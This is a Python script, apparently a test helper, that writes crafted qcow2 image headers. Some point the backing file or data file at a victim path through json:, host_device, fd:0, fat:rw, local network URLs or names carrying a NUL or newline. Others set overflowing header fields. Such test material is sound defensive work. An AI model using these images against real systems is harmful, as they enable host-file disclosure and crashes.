#!/usr/bin/python3
"""headers.py KIND FILE VICTIM: write an image header that means harm into FILE, a qcow2 image; what it leads to is VICTIM.

Without arguments: the kinds, a line each."""
import os
import struct
import sys

BACKING = {  # what stands in the place of the backing file's name, and the format that is said of it
    "json": ('json:{{"driver":"raw","file":{{"driver":"file","filename":"{victim}"}}}}', "raw"),
    "json-blank": ('json: {{"file.filename":"{victim}"}}', ""),
    "nbd": ("nbd://127.0.0.1:{port}/x", "raw"),
    "nbd-unix": ("nbd:unix:{socket}:exportname=x", "raw"),
    "http": ("http://127.0.0.1:{port}/x", "raw"),
    "ssh": ("ssh://127.0.0.1:{port}/x", ""),
    "descriptor": ("fd:0", "raw"),
    "device": ("host_device:{victim}", ""),
    "fat": ("fat:rw:{directory}", "raw"),
    "nfs": ("nfs://127.0.0.1/x", "raw"),
    "standard-input": ("/dev/stdin", "raw"),
    "zeroes": ("/dev/zero", "raw"),
    "nul": ("{victim}\0.img", "raw"),
    "line-break": ("{victim}\nx", "raw"),
    "itself": ("{file}", "qcow2"),
    "directory": ("{directory}", "raw"),
    "absent": ("{directory}/none", "raw"),
    "file": ("file:{victim}", "raw"),
    "plain": ("{victim}", "raw"),
    "relative": ("{relative}", "raw"),
    "no-format": ("{victim}", ""),
}
NUMBERS = {  # offset in the header, how it is packed, value
    "cluster-bits": [(20, ">I", 1 << 30)],
    "cluster-bits-31": [(20, ">I", 31)],
    "table": [(36, ">I", 0xFFFFFFFF)],
    "table-beyond": [(40, ">Q", 1 << 62)],
    "refcounts": [(56, ">I", 0xFFFFFFFF)],
    "refcounts-beyond": [(48, ">Q", 1 << 62)],
    "refcount-order": [(96, ">I", 0xFFFFFFFF)],
    "name-length": [(8, ">Q", 104), (16, ">I", 1 << 31)],
    "name-beyond": [(8, ">Q", (1 << 64) - 8), (16, ">I", 64)],
    "encrypted": [(32, ">I", 1)],
    "luks": [(32, ">I", 2)],
    "snapshots": [(60, ">I", 0xFFFFFFFF), (64, ">Q", 65536)],
    "some-snapshots": [(60, ">I", 65000), (64, ">Q", 65536)],
    "size": [(24, ">Q", (1 << 63) - 512)],
    "length": [(100, ">I", 0xFFFFFFF8)],
    "features": [(72, ">Q", (1 << 64) - 1)],
    "corrupt": [(72, ">Q", 2)],
    "version": [(4, ">I", 99)],
    "compression": [(104, ">B", 0xFF)],
    "extension": [(100, ">I", 104), (104, ">I", 0xE2792ACA), (108, ">I", 0xFFFFFFFF)],
}
DATA_FILE = 0x44415441


def patch(image, offset, packing, value):
    image.seek(offset)
    image.write(struct.pack(packing, value))


def extension(kind, content):
    return struct.pack(">II", kind, len(content)) + content + bytes(-len(content) % 8)


def name_backing(image, kind, words):
    name, form = BACKING[kind]
    name = os.fsencode(name.format(**words))
    extensions = (extension(0xE2792ACA, form.encode()) if form else b"") + bytes(8)
    image.seek(104)
    image.write(extensions + name)
    patch(image, 8, ">Q", 104 + len(extensions))
    patch(image, 16, ">I", len(name))
    patch(image, 100, ">I", 104)


def name_data_file(image, victim):
    image.seek(104)
    image.write(extension(DATA_FILE, os.fsencode(victim)) + bytes(8))
    patch(image, 72, ">Q", 4)
    patch(image, 100, ">I", 104)


def main():
    if len(sys.argv) == 1:
        print("\n".join([*NUMBERS, *BACKING, "data-file", "giant", "short"]))
        return
    kind, path, victim = sys.argv[1:]
    directory = os.path.dirname(path)
    words = {
        "victim": victim,
        "file": path,
        "directory": os.path.dirname(victim),
        "relative": os.path.relpath(victim, directory),
        "port": os.environ.get("PORT", "1"),
        "socket": os.environ.get("SOCKET", "/none"),
    }
    with open(path, "r+b") as image:
        if kind in BACKING:
            name_backing(image, kind, words)
        elif kind == "data-file":
            name_data_file(image, victim)
        elif kind == "giant":
            image.truncate(1 << 40)
            patch(image, 4, ">I", 99)
        elif kind == "short":
            image.truncate(70)
        for change in NUMBERS.get(kind, []):
            patch(image, *change)


main()
